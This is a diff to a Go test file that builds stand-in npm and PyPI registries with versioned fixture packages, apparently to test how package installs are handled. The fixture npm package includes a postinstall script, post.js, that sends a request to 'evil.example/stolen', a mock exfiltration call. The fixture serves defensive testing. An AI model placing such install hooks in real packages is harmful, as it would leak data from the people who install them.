@@ -8,7 +8,6 @@ import (
 	"crypto/sha256"
 	"crypto/sha512"
 	"encoding/base64"
-	"encoding/hex"
 	"encoding/json"
 	"errors"
 	"fmt"
@@ -28,8 +27,8 @@ type registry struct{ *packagestest.Registry }
 func newRegistry(t *testing.T) registry {
 	t.Helper()
 	r := registry{packagestest.New(t)}
-	r.addNode(t)
-	r.addPython(t)
+	r.addNode(t, "1.0.0")
+	r.addPython(t, "1.0.0")
 	return r
 }
 
@@ -41,14 +40,14 @@ func goFiles() files {
 }
 
 // nodePackage is left-shop, whose script after the installation would go elsewhere.
-func nodePackage(t *testing.T) (archive []byte, integrity string) {
+func nodePackage(t *testing.T, version string) (archive []byte, integrity string) {
 	t.Helper()
 	var out bytes.Buffer
 	z := gzip.NewWriter(&out)
 	w := tar.NewWriter(z)
 	for _, f := range [][2]string{
-		{"package/package.json", `{"name":"left-shop","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node post.js"}}`},
-		{"package/index.js", "module.exports = 'hello';\n"},
+		{"package/package.json", `{"name":"left-shop","version":"` + version + `","main":"index.js","scripts":{"postinstall":"node post.js"}}`},
+		{"package/index.js", "module.exports = 'hello' + '" + strings.TrimPrefix(version, "1.0.0") + "';\n"},
 		{"package/post.js", "require('fs').writeFileSync(process.env.PACKAGES + '/go/ran', 'x');\nconst r = require('http').request({host: '127.0.0.1', port: new URL(process.env.HTTP_PROXY).port, path: 'http://evil.example/stolen'}, () => process.exit(0));\nr.on('error', () => process.exit(0));\nr.end();\n"},
 	} {
 		require.NoError(t, w.WriteHeader(&tar.Header{Name: f[0], Mode: 0o644, Size: int64(len(f[1]))}))
@@ -59,22 +58,24 @@ func nodePackage(t *testing.T) (archive []byte, integrity string) {
 	return out.Bytes(), "sha512-" + base64.StdEncoding.EncodeToString(h[:])
 }
 
-func (r registry) addNode(t *testing.T) {
+// addNode offers left-shop in these versions, the last of them as the latest.
+func (r registry) addNode(t *testing.T, versions ...string) {
 	t.Helper()
-	archive, integrity := nodePackage(t)
-	address := "http://" + registryHost + "/npm/left-shop/-/left-shop-1.0.0.tgz"
-	r.Give("/npm/left-shop/-/left-shop-1.0.0.tgz", archive)
-	about, err := json.Marshal(map[string]any{
-		"name": "left-shop", "dist-tags": map[string]string{"latest": "1.0.0"},
-		"versions": map[string]any{"1.0.0": map[string]any{"name": "left-shop", "version": "1.0.0", "dist": map[string]string{"tarball": address, "integrity": integrity}}},
-	})
+	all := map[string]any{}
+	for _, v := range versions {
+		archive, integrity := nodePackage(t, v)
+		file := "/npm/left-shop/-/left-shop-" + v + ".tgz"
+		r.Give(file, archive)
+		all[v] = map[string]any{"name": "left-shop", "version": v, "dist": map[string]string{"tarball": "http://" + registryHost + file, "integrity": integrity}}
+	}
+	about, err := json.Marshal(map[string]any{"name": "left-shop", "dist-tags": map[string]string{"latest": versions[len(versions)-1]}, "versions": all})
 	require.NoError(t, err)
 	r.Give("/npm/left-shop", about)
 }
 
 func nodeFiles(t *testing.T, dir string) files {
 	t.Helper()
-	_, integrity := nodePackage(t)
+	_, integrity := nodePackage(t, "1.0.0")
 	lock := map[string]any{
 		"name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
 		"packages": map[string]any{
@@ -93,32 +94,20 @@ func nodeFiles(t *testing.T, dir string) files {
 	}
 }
 
-// addPython offers left_shop 1.0.0 as a wheel, and old_shop as a source that would have to
-// be run to be installed.
-func (r registry) addPython(t *testing.T) {
+// addPython offers left_shop in these versions as wheels, and old_shop as a source that would have
+// to be run to be installed.
+func (r registry) addPython(t *testing.T, versions ...string) {
 	t.Helper()
-	var wheel bytes.Buffer
-	z := zip.NewWriter(&wheel)
-	var record strings.Builder
-	for _, f := range [][2]string{
-		{"left_shop/__init__.py", "HELLO = 'hello'\n"},
-		{"left_shop-1.0.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: left-shop\nVersion: 1.0.0\n"},
-		{"left_shop-1.0.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
-	} {
-		w, err := z.Create(f[0])
-		require.NoError(t, err)
-		_, _ = w.Write([]byte(f[1]))
-		h := sha256.Sum256([]byte(f[1]))
-		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f[0], base64.RawURLEncoding.EncodeToString(h[:]), len(f[1]))
+	page := func(links ...string) []byte {
+		return []byte("<!DOCTYPE html><html><body>" + strings.Join(links, "\n") + "</body></html>")
 	}
-	w, err := z.Create("left_shop-1.0.0.dist-info/RECORD")
-	require.NoError(t, err)
-	_, _ = w.Write([]byte(record.String() + "left_shop-1.0.0.dist-info/RECORD,,\n"))
-	require.NoError(t, z.Close())
-	h := sha256.Sum256(wheel.Bytes())
-	r.Give("/pypi/left_shop-1.0.0-py3-none-any.whl", wheel.Bytes())
-	page := func(link string) []byte { return []byte("<!DOCTYPE html><html><body>" + link + "</body></html>") }
-	r.Give("/pypi/left-shop/", page(`<a href="../left_shop-1.0.0-py3-none-any.whl#sha256=`+hex.EncodeToString(h[:])+`">left_shop-1.0.0-py3-none-any.whl</a>`))
+	var links []string
+	for _, v := range versions {
+		wheel, name := pythonWheel(t, v), "left_shop-"+v+"-py3-none-any.whl"
+		r.Give("/pypi/"+name, wheel)
+		links = append(links, fmt.Sprintf(`<a href="../%s#sha256=%x">%s</a>`, name, sha256.Sum256(wheel), name))
+	}
+	r.Give("/pypi/left-shop/", page(links...))
 
 	var source bytes.Buffer
 	gz := gzip.NewWriter(&source)
@@ -129,6 +118,30 @@ func (r registry) addPython(t *testing.T) {
 	require.NoError(t, errors.Join(tw.Close(), gz.Close()))
 	r.Give("/pypi/old_shop-1.0.0.tar.gz", source.Bytes())
 	r.Give("/pypi/old-shop/", page(`<a href="../old_shop-1.0.0.tar.gz">old_shop-1.0.0.tar.gz</a>`))
+}
+
+func pythonWheel(t *testing.T, version string) []byte {
+	t.Helper()
+	var wheel bytes.Buffer
+	z := zip.NewWriter(&wheel)
+	var record strings.Builder
+	about := "left_shop-" + version + ".dist-info/"
+	for _, f := range [][2]string{
+		{"left_shop/__init__.py", "HELLO = 'hello" + strings.TrimPrefix(version, "1.0.0") + "'\n"},
+		{about + "METADATA", "Metadata-Version: 2.1\nName: left-shop\nVersion: " + version + "\n"},
+		{about + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
+	} {
+		w, err := z.Create(f[0])
+		require.NoError(t, err)
+		_, _ = w.Write([]byte(f[1]))
+		h := sha256.Sum256([]byte(f[1]))
+		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f[0], base64.RawURLEncoding.EncodeToString(h[:]), len(f[1]))
+	}
+	w, err := z.Create(about + "RECORD")
+	require.NoError(t, err)
+	_, _ = w.Write([]byte(record.String() + about + "RECORD,,\n"))
+	require.NoError(t, z.Close())
+	return wheel.Bytes()
 }
 
 // mirrors are how an operator names the stand-ins.
